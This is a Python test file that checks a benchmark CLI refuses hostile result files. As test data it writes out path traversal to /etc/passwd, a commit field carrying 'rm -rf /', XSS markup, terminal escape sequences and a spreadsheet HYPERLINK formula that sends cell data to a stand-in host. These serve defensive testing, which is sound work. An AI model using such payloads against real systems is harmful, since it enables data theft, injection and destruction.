"""Faults and hostile input in result files (issue 15): nothing in a result file runs, every failure is one line.

CI runs `milestones validate` and `milestones verify` on the result files a pull request adds, so each test here
builds a hostile file from a committed one (the MNIST perceptron's, or the GAN's for an artifact), edited the way an
attacker or a broken disk would, and checks the refusal: one line naming the file, no traceback, nothing imported,
executed, written or hung on.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import math
import os
import re
import shutil
import struct
import subprocess
import sys
import threading
import zlib
from pathlib import Path

import pytest

from benchmarks.cli import main
from benchmarks.core import paths
from benchmarks.core.results import (
    MAX_DEPTH,
    ResultError,
    SeedResult,
    artifact_problem,
    file_problem,
    filename_problem,
    find_results,
    read_result,
    write_atomic,
)
from benchmarks.judging import leaderboard
from benchmarks.judging.compare import table as compare_table
from benchmarks.judging.validate import expand, validate
from benchmarks.running.registry import ConfigError, config_diff, config_hash, import_class

COMMITTED = sorted((paths.RESULTS_DIR / "mnist" / "perceptron").glob("*.json"))[0]
GATES = sorted((paths.RESULTS_DIR / "logic-gates" / "mcculloch-pitts").glob("*.json"))[0]
GAN = sorted((paths.RESULTS_DIR / "mnist-gen" / "gan").glob("*.json"))[0]  # has seed-k/samples.png artifacts


def place(results: Path, source: Path, change=None, name: str | None = None, rehash: bool = True) -> Path:
    """A copy of ``source`` (edited by ``change``) at results/<task>/<entry>/<name>, config_hash recomputed so that a
    refusal is about the edit, not the hash; its artifact folder comes along."""
    data = json.loads(source.read_text())
    if change:
        change(data)
    if rehash:
        data["config_hash"] = config_hash(data["config"])
    path = results / data["task"] / data["entry"] / (name or source.name)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2))
    if source.with_suffix("").is_dir():
        shutil.copytree(source.with_suffix(""), path.with_suffix(""))
    return path


def cli(argv: list[str], capsys) -> tuple[int, str, str]:
    """(exit status, stdout, stderr) of `milestones <argv>`."""
    with pytest.raises(SystemExit) as info:
        main(argv)
    out = capsys.readouterr()
    return info.value.code, out.out, out.err


def one_error_line(code: int, err: str) -> str:
    """The CLI refused with exit 2 and one line `milestones: error: ...`, no traceback."""
    assert code == 2 and "Traceback" not in err, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("milestones: error: "), err
    return lines[0]


def bounded(fn, seconds: float = 20.0):
    """Run ``fn`` in a daemon thread; fail (not hang) when it has not returned within ``seconds``."""
    outcome = {}

    def target():
        try:
            outcome["value"] = fn()
        except BaseException as error:  # SystemExit from the CLI included
            outcome["error"] = error

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still blocked after {seconds} s (a FIFO opened without O_NONBLOCK?)"
    if "error" in outcome:
        raise outcome["error"]
    return outcome.get("value")


# --- 1. verify imports nothing a result file names -------------------------------------------------------------------
@pytest.mark.parametrize(
    "class_path", ["lightning_modulesX.evil.Cls", "lightning_modules_x.evil.Cls", "this.x.Perceptron", "os.system"]
)
def test_import_class_takes_only_the_lightning_modules_package(class_path, monkeypatch):
    monkeypatch.delitem(sys.modules, "this", raising=False)
    with pytest.raises(ConfigError, match="must name a class in lightning_modules/"):
        import_class(class_path, Path("x.yaml"))
    assert "this" not in sys.modules
    for odd in ("lightning_modules..perceptron.Perceptron", "lightning_modules.perceptron.Perceptron()"):
        with pytest.raises(ConfigError):
            import_class(odd, Path("x.yaml"))
    assert import_class("lightning_modules.perceptron.Perceptron", Path("x.yaml")).__name__ == "Perceptron"


HOSTILE_CLASSES = ["this.x.Perceptron", "venv.__main__.x.Perceptron", "lightning_modulesX.y.Z"]


@pytest.mark.parametrize("anyway", [[], ["--run-anyway"]], ids=["refused", "run-anyway"])
@pytest.mark.parametrize("class_path", HOSTILE_CLASSES)
def test_verify_refuses_a_class_path_that_is_not_the_registered_one_before_any_import(
    class_path, anyway, tmp_path, monkeypatch, capsys
):
    """`import this` prints the Zen of Python; importing venv.__main__ creates a virtual environment (here, at the
    path in argv); lightning_modulesX passed the old prefix check. None of it may happen, --run-anyway or not."""
    results = tmp_path / "results"
    path = place(results, COMMITTED, lambda d: d["config"]["model"].update(class_path=class_path))
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setattr(sys, "argv", ["milestones", str(work / "planted-venv")])
    planted = tmp_path / "site" / "lightning_modulesX"  # a look-alike package an attacker could ship beside the file
    planted.mkdir(parents=True)
    (planted / "__init__.py").write_text("print('PLANTED CODE RAN')\n")
    (planted / "y.py").write_text("Z = 1\n")
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    for module in ("this", "venv.__main__", "lightning_modulesX"):
        monkeypatch.delitem(sys.modules, module, raising=False)
    code, out, err = cli(["verify", str(path), "--accelerator", "cpu", "--output-dir", str(tmp_path / "out"), *anyway],
                         capsys)  # fmt: skip
    line = one_error_line(code, err)
    assert f"{path}: cannot be verified, even with --run-anyway: config.model.class_path '{class_path}'" in line
    assert "The Zen of Python" not in out + err and "PLANTED CODE RAN" not in out + err
    assert not {"this", "venv.__main__", "lightning_modulesX"} & set(sys.modules)
    assert list(work.iterdir()) == [] and not (tmp_path / "out").exists(), "nothing is created"


@pytest.mark.parametrize("anyway", [[], ["--run-anyway"]], ids=["refused", "run-anyway"])
def test_verify_refuses_an_unregistered_entry_even_with_run_anyway(anyway, tmp_path, capsys):
    path = place(tmp_path / "results", COMMITTED, lambda d: d.update(entry="perceptorn"))
    code, _, err = cli(["verify", str(path), "--accelerator", "cpu", "--output-dir", str(tmp_path / "out"), *anyway],
                       capsys)  # fmt: skip
    line = one_error_line(code, err)
    assert f"{path}: cannot be verified, even with --run-anyway: unknown entry 'perceptorn'" in line
    assert not (tmp_path / "out").exists()


# --- 2. only bounded regular UTF-8 files are read --------------------------------------------------------------------
def test_a_fifo_is_refused_without_hanging(tmp_path, capsys):
    fifo = tmp_path / "results" / "mnist" / "perceptron" / "20990101T000000Z-cpu-32-true-00000000.json"
    fifo.parent.mkdir(parents=True)
    os.mkfifo(fifo)
    try:
        with pytest.raises(ResultError) as info:
            bounded(lambda: read_result(fifo))
        assert str(info.value) == f"{fifo}: a FIFO, not a regular file: a result file must be a regular file"
        code, _, err = bounded(lambda: cli(["validate", str(fifo)], capsys))
        assert code == 1 and f"{fifo}: a FIFO, not a regular file" in err and "Traceback" not in err
        code, _, err = bounded(lambda: cli(["leaderboard", "--results-dir", str(tmp_path / "results"), "--out-dir",
                                            str(tmp_path / "board")], capsys))  # fmt: skip
        assert "a FIFO" in one_error_line(code, err) and not (tmp_path / "board").exists()
    finally:  # a reader left blocked by a regression is released, so the process can exit
        try:
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass


def test_a_symlink_to_dev_zero_and_a_device_are_refused(tmp_path, capsys):
    link = tmp_path / "results" / "mnist" / "perceptron" / "zero.json"
    link.parent.mkdir(parents=True)
    link.symlink_to("/dev/zero")
    with pytest.raises(ResultError, match="a symbolic link: a result file must be a regular file"):
        bounded(lambda: read_result(link))
    with pytest.raises(ResultError, match="a device or socket, not a regular file"):
        bounded(lambda: read_result(Path("/dev/zero")))
    code, _, err = bounded(lambda: cli(["validate", str(link)], capsys))
    assert code == 1 and f"{link}: a symbolic link" in err
    code, _, err = bounded(lambda: cli(["leaderboard", "--results-dir", str(tmp_path / "results"), "--check"], capsys))
    assert f"{link}: a symbolic link" in one_error_line(code, err)


def test_a_file_over_the_size_bound_is_refused(tmp_path, capsys):
    big = tmp_path / "results" / "mnist" / "perceptron" / "big.json"
    big.parent.mkdir(parents=True)
    with open(big, "wb") as f:
        f.truncate(32 * 2**20 + 1)  # sparse: costs no disk
    with pytest.raises(ResultError) as info:
        read_result(big)
    assert str(info.value) == f"{big}: larger than 32 MiB: not a result file"
    code, _, err = cli(["validate", str(big)], capsys)
    assert code == 1 and "larger than 32 MiB" in err


@pytest.mark.parametrize(
    "content, message",
    [
        (b'{"entry": "caf\xe9"}', "not UTF-8 text (byte 0xe9 at offset 14)"),
        (b"[" * 100_000, "not readable JSON (nested deeper than Python's recursion limit)"),
        (b'{"config": ' + b"[" * 100 + b"]" * 100 + b"}", f"nested deeper than {MAX_DEPTH} levels"),
    ],
    ids=["invalid-utf8", "deep-100000", "deep-100"],
)
def test_undecodable_or_deeply_nested_json_is_one_line(content, message, tmp_path, capsys):
    path = tmp_path / "results" / "mnist" / "perceptron" / "x.json"
    path.parent.mkdir(parents=True)
    path.write_bytes(content)
    with pytest.raises(ResultError) as info:
        read_result(path)
    assert str(info.value).startswith(f"{path}: ") and message in str(info.value) and "\n" not in str(info.value)
    code, _, err = cli(["validate", str(path)], capsys)
    assert code == 1 and message in err and "Traceback" not in err
    code, _, err = cli(["leaderboard", "--results-dir", str(tmp_path / "results"), "--print"], capsys)
    assert message in one_error_line(code, err)


# --- 3. field forms ---------------------------------------------------------------------------------------------------
def seed0(**fields):
    return lambda d: d["seeds"][0].update(fields)


FORMS = {
    "artifact path": (seed0(artifacts=["../../../../etc/passwd"]), "seeds.0.artifacts.0"),
    "absolute artifact": (seed0(artifacts=["/etc/passwd"]), "seeds.0.artifacts.0"),
    "artifact in a folder": (seed0(artifacts=["a/b.png"]), "seeds.0.artifacts.0"),
    "precision markup": (lambda d: d.update(precision="32-true | <img src=x onerror=alert(1)>"), "'precision'"),
    "created not a date": (lambda d: d.update(created="yesterday"), "not an ISO 8601 timestamp"),
    "created not UTC": (lambda d: d.update(created="2026-12-01T21:03:48+02:00"), "not in UTC"),
    "negative seed": (seed0(seed=-1), "seeds.0.seed"),
    "seed 2**32": (seed0(seed=2**32), "seeds.0.seed"),
    "zero throughput": (seed0(samples_per_s=0), "seeds.0.samples_per_s"),
    "negative time-to-target": (seed0(time_to_target_s=-1.0), "seeds.0.time_to_target_s"),
    "negative wall time": (lambda d: d.update(wall_time_s=-5.0), "'wall_time_s'"),
    "negative memory": (lambda d: d.update(peak_memory_mb=-1.0), "'peak_memory_mb'"),
    "negative epochs": (seed0(epochs=-1), "seeds.0.epochs"),
    "world size 0": (lambda d: d.update(world_size=0), "'world_size'"),
    "negative epoch to target": (seed0(epoch_to_target=-1), "seeds.0.epoch_to_target"),
    "entry a path": (lambda d: d.update(entry="../mlp"), "'entry'"),
    "task not a name": (lambda d: d.update(task="MNIST <b>"), "'task'"),
    "failure with a heading": (seed0(failure="boom\n## heading"), "line break"),
    "note with a newline": (seed0(notes={"sig": "a\nb"}), "line break"),
    "device with a newline": (lambda d: d["environment"].update(device="CPU\n## x"), "line break"),
    "accelerator": (lambda d: d["environment"].update(accelerator="tpu"), "'environment.accelerator'"),
    "commit": (lambda d: d["code"].update(git_commit="HEAD; rm -rf /"), "not a hexadecimal commit id"),
    "Infinity time": (lambda d: d.update(time_to_target_s=math.inf), "inf is not a finite number"),
    "NaN in val_history": (lambda d: d["seeds"][0]["val_history"][0].update({"val/error": math.nan}), "nan is not"),
}


@pytest.mark.parametrize("case", FORMS)
def test_field_forms_are_refused_naming_the_field(case, tmp_path):
    change, expected = FORMS[case]
    path = place(tmp_path / "results", COMMITTED, change)
    with pytest.raises(ResultError) as info:
        read_result(path)
    message = str(info.value)
    assert message.startswith(f"{path}: field ") and expected in message and "\n" not in message, message


def test_a_runs_own_failure_message_is_made_one_line():
    """The harness builds SeedResult in code (no context): an exception's multi-line text is flattened, not refused."""
    seed = SeedResult(seed=0, status="failed", failure="loss is nan\n  at step 7", train_time_s=1.0, eval_time_s=0.0,
                      wall_time_s=1.0, epochs=1)  # fmt: skip
    assert seed.failure == "loss is nan at step 7"


# --- 4. NaN and Infinity seed metrics ---------------------------------------------------------------------------------
@pytest.mark.parametrize("value", [math.nan, math.inf], ids=["NaN", "Infinity"])
def test_a_non_finite_metric_is_a_problem_line_and_the_other_problems_still_show(value, tmp_path, capsys):
    results, board = tmp_path / "results", tmp_path / "board"

    def nan_and_dirty(data):
        data["seeds"][0]["metrics"]["error"] = value
        data["code"]["git_dirty"] = True

    bad = place(results, COMMITTED, nan_and_dirty)
    other = place(results, GATES, lambda d: d["code"].update(git_dirty=True))
    problems, _ = validate([str(bad), str(other)], results_dir=results, leaderboard_dir=board)
    assert f"{bad}: seeds[0].metrics.error: {value} is not finite" in problems
    assert f"{bad}: code.git_dirty: made from a tree with uncommitted changes; commit first, then run" in problems
    assert any(line.startswith(f"{other}: code.git_dirty") for line in problems), "the other file's problem too"
    assert any(line.startswith("leaderboard: cannot be rebuilt: ") and str(bad) in line for line in problems)
    with pytest.raises(ResultError, match=f"{bad}: field 'seeds.0.metrics.error': {value} is not a finite number"):
        leaderboard.build(results, board)
    assert not board.exists()
    code, _, err = cli(["validate", str(bad), str(other)], capsys)
    assert code == 1 and "Traceback" not in err and f"{bad}: seeds[0].metrics.error: {value} is not finite" in err
    code, _, err = cli(["leaderboard", "--results-dir", str(results), "--out-dir", str(board)], capsys)
    assert f"{bad}: field 'seeds.0.metrics.error'" in one_error_line(code, err)


# --- 5. nothing rendered from a result becomes markup -----------------------------------------------------------------
EVIL = "x | <img src=x onerror=alert(1)> [click](http://evil) `code` ## heading"


CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`).+?(?<!`)\1(?!`)")  # a CommonMark code span: inert text


def outside_code_spans(text: str) -> str:
    return CODE_SPAN.sub("`span`", text)


def test_md_makes_any_text_inert():
    assert leaderboard.md("a\n## heading") == "a ## heading"
    assert leaderboard.md("# h") == "\\# h" and leaderboard.md("[d]: evil") == "\\[d]: evil"
    assert leaderboard.md(EVIL.replace("http://", "")) == (
        "x \\| &lt;img src=x onerror=alert(1)&gt; [click\\](evil) \\`code\\` ## heading"
    )
    assert leaderboard.md("grey [0, 1]") == "grey [0, 1]", "a lone bracket is no link"


def test_a_crafted_result_renders_as_text(tmp_path, leaderboard_of):
    """Every free-text field a result can carry past validation, in the tables, the README block and the CSV."""
    result = read_result(COMMITTED)
    config = json.loads(json.dumps(result.config))
    config["entry"] = "evil-entry"  # unregistered: the row takes its review from the file itself
    config["reported"] = {"kind": "paper", "task": "mnist", "value": 1.0, "source": EVIL, "note": EVIL}
    config["paper"]["title"] = EVIL
    seeds = [s.model_copy(update={"notes": {"sig": EVIL}}) for s in result.seeds]
    crafted = result.model_copy(update={"entry": "evil-entry", "config": config, "seeds": seeds,
                                        "environment": result.environment | {"device": EVIL}})  # fmt: skip
    text = leaderboard_of(crafted, tmp_path / 'x"><img src=y>.json', tmp_path / "results")
    assert "sig `x | <img src=x onerror=alert(1)> [click](http://evil) 'code' ## heading`" in text  # a code span: inert
    text = outside_code_spans(text)
    assert "<img" not in text and not re.search(r"(?<!\\)\]\(http", text) and "`code`" not in text, text
    assert "http" not in text and "www." not in text, "a URL is only ever inside a code span"
    assert [line for line in text.splitlines() if line.startswith("#")] == ["# DL Milestones leaderboard", "## mnist"]
    table = [line for line in text.splitlines() if line.startswith("|")]
    columns = {len(line.replace("\\|", "").split("|")) for line in table}
    assert len(table) == 3 and len(columns) == 1, table  # header, rule, one row: no cell split by a "|"
    results = leaderboard.load_results(tmp_path / "results")
    block = outside_code_spans(leaderboard.readme_block(results))
    assert "<img" not in block and not re.search(r"(?<!\\)\]\(http", block)
    rows = list(csv.reader(io.StringIO(leaderboard.render_csv(results))))
    assert len(rows) == 2 and {len(row) for row in rows} == {len(leaderboard.CSV_COLUMNS)}


def test_a_failed_runs_reason_renders_as_text(tmp_path, leaderboard_of):
    result = read_result(COMMITTED)
    seeds = [result.seeds[0].model_copy(update={"status": "failed", "failure": EVIL, "metrics": {}}), *result.seeds[1:]]
    text = leaderboard_of(result.model_copy(update={"seeds": seeds, "status": "failed"}), COMMITTED, tmp_path / "r")
    row = next(line for line in text.splitlines() if "seed 0:" in line)
    assert "<img" not in outside_code_spans(row) and len(row.replace("\\|", "").split("|")) == 7, row


# --- 6. one invocation, one result ------------------------------------------------------------------------------------
def test_a_copy_of_a_result_is_refused_by_validate_and_the_build(tmp_path, capsys):
    results, board = tmp_path / "results", tmp_path / "board"
    first = place(results, COMMITTED)
    copy = place(results, COMMITTED, name=COMMITTED.stem + "-1.json")
    expected = f"{copy}: seeds: the same per-seed records as {first}: one invocation makes one result"
    problems, _ = validate([str(copy)], results_dir=results, leaderboard_dir=board)  # the added file alone
    assert any(line.startswith(expected) for line in problems), problems
    with pytest.raises(ResultError, match="the same per-seed records as"):
        leaderboard.build(results, board)
    assert not board.exists()
    code, _, err = cli(["leaderboard", "--results-dir", str(results), "--out-dir", str(board)], capsys)
    line = one_error_line(code, err)
    assert str(copy) in line and str(first) in line
    other = place(results, GATES)  # another entry's result is no duplicate
    assert not any(p.startswith(f"{other}: seeds: the same") for p in validate([str(other)], results, board)[0])


# --- 7. artifacts -----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "damage, message",
    [
        (lambda png: png.write_bytes(b""), "is empty (0 bytes)"),
        (lambda png: png.write_bytes(png.read_bytes()[: png.stat().st_size // 2]), "is not a complete PNG"),
        (lambda png: (png.unlink(), png.symlink_to("/dev/zero")), "is not a regular file"),
    ],
    ids=["empty", "truncated", "symlink"],
)
def test_a_damaged_artifact_is_refused(damage, message, tmp_path):
    results, board = tmp_path / "results", tmp_path / "board"
    path = place(results, GAN, rehash=False)
    png = path.with_suffix("") / "seed-0" / "samples.png"
    assert not any("artifacts" in p for p in validate([str(path)], results, board)[0]), "the intact one passes"
    damage(png)
    problems, _ = validate([str(path)], results, board)
    assert f"{path}: seeds[0].artifacts: {png} {message}" in "\n".join(problems), problems


# --- 8. the build is all or nothing; a broken plot is found -----------------------------------------------------------
def test_a_failing_render_writes_nothing(tmp_path, monkeypatch):
    results, board = tmp_path / "results", tmp_path / "board"
    place(results, COMMITTED)
    place(results, GATES)
    leaderboard.build(results, board)
    before = {p: p.read_bytes() for p in board.rglob("*") if p.is_file()}
    assert len(before) == 5  # README.md, leaderboard.csv, entries.md, two plots
    place(results, COMMITTED, lambda d: d["seeds"].pop(), name="20990101T000000Z-cpu-32-true-00000000.json")
    render = leaderboard.plot_png

    def fail_on_the_second(name, *args, **kwargs):
        if name == "mnist":
            raise RuntimeError("renderer broke")
        return render(name, *args, **kwargs)

    monkeypatch.setattr(leaderboard, "plot_png", fail_on_the_second)
    with pytest.raises(RuntimeError, match="renderer broke"):
        leaderboard.build(results, board)
    assert {p: p.read_bytes() for p in board.rglob("*") if p.is_file()} == before, "no file changed"
    with pytest.raises(RuntimeError):
        leaderboard.build(results, tmp_path / "fresh")
    assert not (tmp_path / "fresh").exists()


def test_a_truncated_plot_is_reported_by_check_and_validate(tmp_path, capsys):
    results, board = tmp_path / "results", tmp_path / "board"
    path = place(results, COMMITTED)
    leaderboard.build(results, board)
    assert leaderboard.check(results, board) == []
    plot = board / "plots" / "mnist.png"
    plot.write_bytes(plot.read_bytes()[:1000])  # what a size-limited write once left
    (board / "plots" / "stray.png").write_bytes(b"")
    expected = [f"{plot}: is not a complete PNG", f"{board / 'plots' / 'stray.png'}: is empty (0 bytes)"]
    for problems in (leaderboard.check(results, board), validate([str(path)], results, board)[0]):
        for line in expected:
            assert any(p.startswith(line) for p in problems), problems
    code, _, err = cli(["leaderboard", "--check", "--results-dir", str(results), "--out-dir", str(board)], capsys)
    assert code == 1 and f"{plot}: is not a complete PNG" in err and "Traceback" not in err


# --- 9. temporaries of a killed write ---------------------------------------------------------------------------------
def dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_a_stale_temporary_of_a_dead_writer_is_removed_and_a_live_ones_kept(tmp_path):
    final = tmp_path / "mnist" / "perceptron" / "r.json"
    final.parent.mkdir(parents=True)
    stale = final.parent / f".r.json.{dead_pid()}.tmp"
    live = final.parent / f".r.json.{os.getppid()}.tmp"  # our parent is alive
    other = final.parent / f".s.json.{dead_pid()}.tmp"  # another target's: not ours to judge here
    for tmp in (stale, live, other):
        tmp.write_text("{half")
    write_atomic("{}", final)
    assert final.read_text() == "{}" and not stale.exists() and live.exists() and other.exists()


def test_a_result_write_killed_halfway_leaves_only_a_hidden_temporary_that_nothing_lists(tmp_path, capsys):
    """MILESTONES_KILL_AT=result-write SIGKILLs the writer halfway through the bytes: no result file, a hidden half
    file that find_results, validate's folder expansion and the leaderboard skip, and the next write removes it."""
    results = tmp_path / "results"
    script = (
        "import sys; from pathlib import Path; from benchmarks.core.results import read_result, write_result; "
        "write_result(read_result(Path(sys.argv[1])), Path(sys.argv[2]))"
    )
    env = os.environ | {"MILESTONES_KILL_AT": "result-write"}
    killed = subprocess.run([sys.executable, "-c", script, str(COMMITTED), str(results)], env=env,
                            cwd=paths.REPO_ROOT, capture_output=True, text=True, timeout=120)  # fmt: skip
    assert killed.returncode == -9, killed.stderr
    folder = results / "mnist" / "perceptron"
    (tmp,) = folder.iterdir()
    assert tmp.name.startswith(f".{COMMITTED.name}.") and tmp.name.endswith(".tmp")
    assert 0 < tmp.stat().st_size < len(read_result(COMMITTED).model_dump_json(indent=2))
    hidden = folder / ".backup.json"
    hidden.write_text("{ not json")
    assert find_results(results) == [] and expand([str(results)], results) == []
    assert leaderboard.load_results(results) == []
    write_atomic(COMMITTED.read_text(), folder / COMMITTED.name)
    assert not tmp.exists() and find_results(results) == [folder / COMMITTED.name]


def test_a_json_artifact_is_not_taken_for_a_result_when_a_folder_is_validated(tmp_path):
    path = place(tmp_path / "results", GAN)
    artifact = path.with_suffix("") / "seed-0" / "scores.json"
    artifact.write_text("{}")
    assert expand([str(tmp_path / "results")], tmp_path / "results") == [path]


# --- 10. the hostile re-test ------------------------------------------------------------------------------------------
ESCAPE_KEY = "\x1b[2K\rvalidate: all result files pass\x1b[8m\nhidden"
BANNED = {
    "escape sequence": ESCAPE_KEY,
    "tab": "a\tb",
    "DEL": "a\x7fb",
    "C1 NEL": "a\x85b",
    "C1 CSI": "a\x9b2Kb",
    "RLO": "gnp.\u202eexe",
    "LRM": "a\u200eb",
    "isolate": "a\u2066b",
    "zero width space": "a\u200bb",
    "zero width joiner": "a\u200db",
    "word joiner": "a\u2060b",
    "BOM": "\ufeffa",
    "soft hyphen (Cf)": "a\u00adb",
    "lone surrogate": "a\ud800b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
}
PRINTED = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]")


@pytest.mark.parametrize("where", ["config key", "config value", "device", "dataset key"])
@pytest.mark.parametrize("case", BANNED)
def test_control_invisible_and_bidi_characters_are_refused_anywhere(case, where, tmp_path):
    text = BANNED[case]
    change = {
        "config key": lambda d: d["config"]["model"]["init_args"].update({text: 1}),
        "config value": lambda d: d["config"]["model"].update(class_path=text),
        "device": lambda d: d["environment"].update(device=text),
        "dataset key": lambda d: d["dataset"].update({text: "x"}),
    }[where]
    path = place(tmp_path / "results", COMMITTED, change)
    with pytest.raises(ResultError) as info:
        read_result(path)
    message = str(info.value)
    assert message.startswith(f"{path}: field '") and "control, invisible or bidi character (U+" in message, message
    assert not PRINTED.search(message) and "\n" not in message, ascii(message)


def test_an_escape_sequence_in_a_config_key_never_reaches_the_terminal(tmp_path, capsys):
    """A key that erases the line and prints 'all result files pass' was printed raw by validate (config_diff)."""
    path = place(tmp_path / "results", COMMITTED, lambda d: d["config"]["model"]["init_args"].update({ESCAPE_KEY: 1}))
    code, out, err = cli(["validate", str(path)], capsys)
    assert code == 1 and "Traceback" not in err and not PRINTED.search(out + err), ascii(out + err)
    assert f"{path}: field 'config.model.init_args': key '\\x1b[2K\\rvalidate" in err, err
    code, out, err = cli(["verify", str(path)], capsys)
    assert "\\x1b[2K" in one_error_line(code, err) and not PRINTED.search(out + err)
    lines = config_diff({"init_args": {ESCAPE_KEY: 1}}, {"init_args": {}})
    assert lines == [f"init_args.{ESCAPE_KEY!r}: 1 ≠ '(absent)'"] and "\x1b" not in lines[0]


@pytest.mark.parametrize("link", ["seed folder", "result folder"])
def test_an_artifact_reached_through_a_symlinked_folder_is_refused(link, tmp_path):
    results, board = tmp_path / "results", tmp_path / "board"
    if link == "seed folder":  # seed-0 -> /etc, and the seed lists "passwd"
        path = place(results, GAN, seed0(artifacts=["passwd"]))
        linked = path.with_suffix("") / "seed-0"
        shutil.rmtree(linked)
        linked.symlink_to("/etc")
        artifact = linked / "passwd"
    else:  # the whole <stem>/ folder -> a copy outside the results folder
        path = place(results, GAN)
        linked = path.with_suffix("")
        shutil.move(linked, tmp_path / "outside")
        linked.symlink_to(tmp_path / "outside")
        artifact = linked / "seed-0" / "samples.png"
    problems, _ = validate([str(path)], results, board)
    expected = f"{path}: seeds[0].artifacts: {artifact} is reached through a symbolic link ({linked})"
    assert any(p.startswith(expected) for p in problems), problems


def test_a_result_folder_whose_artifact_resolves_outside_it_is_refused(tmp_path):
    path = place(tmp_path / "results", GAN)
    assert artifact_problem(path, 0, "samples.png") is None
    folder = tmp_path / "real"
    shutil.move(path.parent, folder)
    path.parent.symlink_to(folder)  # <task>/<entry>/ itself a link: the artifact still lies inside it, resolved
    assert artifact_problem(path, 0, "samples.png") is None


def test_a_formula_never_reaches_the_csv(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"NVIDIA H100")'
    path = place(tmp_path / "results", COMMITTED, lambda d: d["environment"].update(device=formula))
    with pytest.raises(ResultError, match=r"field 'environment.device': .*a spreadsheet would take it for a formula"):
        read_result(path)
    result = read_result(COMMITTED)
    for device in (formula, "+1 cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        env = result.environment | {"accelerator": "gpu", "device": device, "device_count": 1}
        crafted = result.model_copy(update={"environment": env})
        (row,) = list(csv.DictReader(io.StringIO(leaderboard.render_csv([(COMMITTED, crafted)]), newline="")))
        assert row["hardware"] == "'" + device.replace("\r", " ") + " ×1", row["hardware"]
    assert leaderboard.csv_cell(-1.5) == -1.5 and leaderboard.csv_cell(-3) == -3 and leaderboard.csv_cell(None) is None
    assert leaderboard.csv_cell("-1") == "'-1" and leaderboard.csv_cell("CPU: x") == "CPU: x"


def test_md_renders_no_autolink_and_no_entity():
    url = "AMD https://evil.example/login www.evil.example"
    assert leaderboard.md(url) == f"` {url} `"
    assert leaderboard.md("&#x202E;gnp.exe &amp;") == "&amp;#x202E;gnp.exe &amp;amp;"
    assert leaderboard.md("a ``` b | c WWW.x.org") == "```` a ``` b \\| c WWW.x.org ````"
    assert leaderboard.md("mail me@evil.example") == "` mail me@evil.example `"
    assert leaderboard.md(EVIL) == "`` x \\| <img src=x onerror=alert(1)> [click](http://evil) `code` ## heading ``"


def test_a_device_with_a_url_renders_inside_a_code_span(tmp_path, leaderboard_of):
    result = read_result(COMMITTED)
    crafted = result.model_copy(update={"environment": result.environment | {"device": "AMD https://evil.example/x"}})
    text = leaderboard_of(crafted, COMMITTED, tmp_path / "results")
    assert "` CPU: AMD https://evil.example/x (" in text
    assert "evil" not in outside_code_spans(text)


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header says width × height (its pixel data is that of a 1×1 image: never decoded)."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGBA", (1, 1)).save(buffer, format="PNG")
    data = bytearray(buffer.getvalue())
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))  # the IHDR chunk's checksum, recomputed
    return bytes(data)


def test_an_oversized_artifact_image_is_refused_before_it_is_decoded(tmp_path):
    from PIL import Image

    results, board = tmp_path / "results", tmp_path / "board"
    path = place(results, GAN)
    png = path.with_suffix("") / "seed-0" / "samples.png"
    png.write_bytes(png_claiming(13300, 13300))  # 688 kB that decode to 700 MB of RGBA
    problems, _ = validate([str(path)], results, board)
    assert f"{path}: seeds[0].artifacts: {png} is 13300×13300 pixels, larger than 4096×4096: not decoded" in problems
    Image.new("L", (4097, 1)).save(png)  # a complete image, one pixel too wide
    assert file_problem(png) == "is 4097×1 pixels, larger than 4096×4096: not decoded"
    Image.new("L", (4096, 4)).save(png)
    assert file_problem(png) is None


def test_a_key_given_twice_is_refused(tmp_path, capsys):
    path = place(tmp_path / "results", COMMITTED)
    text = path.read_text()
    path.write_text(text.replace('"device": ', '"device": "AMD EPYC", "device": ', 1))
    expected = f"{path}: not a result file: key 'device' appears twice in one object"
    with pytest.raises(ResultError) as info:
        read_result(path)
    assert str(info.value).startswith(expected)
    code, _, err = cli(["compare", str(path)], capsys)
    assert expected in one_error_line(code, err)


@pytest.mark.parametrize("missing", ["absent", "a file"])
def test_a_results_dir_that_is_not_a_folder_is_refused(missing, tmp_path, capsys):
    results, board = tmp_path / "result", tmp_path / "board"
    if missing == "a file":
        results.write_text("")
    expected = f"^{re.escape(str(results))}: the results folder (does not exist|is not a folder)$"
    for call in (leaderboard.build, leaderboard.check, lambda r, b: leaderboard.render_markdown(r)):
        with pytest.raises(ResultError, match=expected):
            call(results, board)
    code, _, err = cli(["leaderboard", "--results-dir", str(results), "--out-dir", str(board)], capsys)
    assert "the results folder" in one_error_line(code, err) and not board.exists()
    empty = tmp_path / "empty"
    empty.mkdir()
    assert leaderboard.load_results(empty) == []  # an existing empty folder is no error


def test_the_build_replaces_nothing_when_the_last_write_fails(tmp_path, monkeypatch):
    """What a file size limit (prlimit --fsize) did: the tables were rewritten, a plot was not."""
    results, board = tmp_path / "results", tmp_path / "board"
    place(results, COMMITTED)
    place(results, GATES)
    written = leaderboard.build(results, board)
    before = {p: p.read_bytes() for p in board.rglob("*") if p.is_file()}
    place(results, COMMITTED, lambda d: d["seeds"].pop(), name="20990101T000000Z-cpu-32-true-00000000.json")
    write = leaderboard.write_temporary
    last = written[-1].relative_to(board)

    def fails_on_the_last(data, final):
        if final.parts[-len(last.parts) :] == last.parts:
